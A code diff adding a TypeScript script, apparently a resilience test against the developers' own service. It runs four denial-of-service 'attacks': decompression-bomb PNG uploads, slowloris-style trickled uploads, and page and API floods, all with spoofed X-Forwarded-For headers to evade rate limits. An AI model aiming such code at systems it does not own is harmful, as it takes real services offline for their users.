@@ -1,0 +1,78 @@
+import net from 'node:net';
+import { crc32, deflateSync } from 'node:zlib';
+import { runtimeConfig } from '#setup/accounts';
+import { origin } from '#product/origin';
+
+/** Ends with its process: the measurement kills it. */
+const forever = async (workers: number, work: (network: number) => Promise<unknown>): Promise<unknown> =>
+  Promise.all(
+    Array.from({ length: workers }, async (_, worker) => {
+      for (let turn = 0; ; turn += 1) await work(worker + turn * workers).catch(() => undefined);
+    }),
+  );
+
+/** A stranger with a thousand networks. */
+const from = (network: number): Record<string, string> => ({
+  'x-forwarded-for': `10.${Math.floor((network % 1_000) / 250)}.${network % 250}.7`,
+});
+
+const read = async (path: string, network: number): Promise<void> => {
+  const answer = await fetch(origin() + path, { headers: { accept: 'text/html', ...from(network) } });
+  await answer.arrayBuffer();
+};
+
+/** A PNG of 24 megapixels in one colour: some kilobytes that unpack to a hundred megabytes. */
+function largePng(): Buffer<ArrayBuffer> {
+  const [width, height] = [6_000, 4_000];
+  const header = Buffer.alloc(13);
+  header.writeUInt32BE(width, 0);
+  header.writeUInt32BE(height, 4);
+  header.set([8, 2], 8);
+  const chunk = (type: string, data: Buffer): Buffer => {
+    const body = Buffer.concat([Buffer.from(type), data]);
+    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+    length.writeUInt32BE(data.length);
+    sum.writeUInt32BE(crc32(body));
+    return Buffer.concat([length, body, sum]);
+  };
+  const pixels = deflateSync(Buffer.alloc(height * (1 + 3 * width)), { level: 9 });
+  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]);
+  return Buffer.concat([signature, chunk('IHDR', header), chunk('IDAT', pixels), chunk('IEND', Buffer.alloc(0))]);
+}
+
+async function uploadLargePhotos(): Promise<void> {
+  const { imageHost } = await runtimeConfig();
+  const photo = new Blob([largePng()], { type: 'image/png' });
+  await forever(8, async (network) => {
+    const form = new FormData();
+    form.append('image', photo, 'large.png');
+    await fetch(`${imageHost.url}?key=${imageHost.key}`, { method: 'POST', body: form, headers: from(network) });
+  });
+}
+
+/** A byte now and then, on forty connections. */
+async function trickleUploads(): Promise<void> {
+  const { imageHost } = await runtimeConfig();
+  const { pathname, hostname, port } = new URL(imageHost.url);
+  await forever(40, async (network) => {
+    const socket = net.connect(Number(port), hostname);
+    const closed = new Promise<void>((resolve) => socket.once('close', () => resolve()));
+    socket.on('error', () => socket.destroy());
+    const forwarded = from(network)['x-forwarded-for'];
+    socket.write(
+      `POST ${pathname}?key=${imageHost.key} HTTP/1.1\r\nHost: ${hostname}\r\nX-Forwarded-For: ${forwarded}\r\nContent-Type: multipart/form-data; boundary=b\r\nContent-Length: 1000000\r\n\r\n`,
+    );
+    const trickle = setInterval(() => socket.write('x'), 500);
+    await closed;
+    clearInterval(trickle);
+  });
+}
+
+const attacks: Record<string, () => Promise<unknown>> = {
+  'large photos': uploadLargePhotos,
+  'trickling uploads': trickleUploads,
+  'a flood of pages': () => forever(32, (network) => read('/', network)),
+  'a flood of reads': () => forever(32, (network) => read('/api/products/Rice?limit=200', network)),
+};
+
+await attacks[process.argv[2] ?? '']?.();
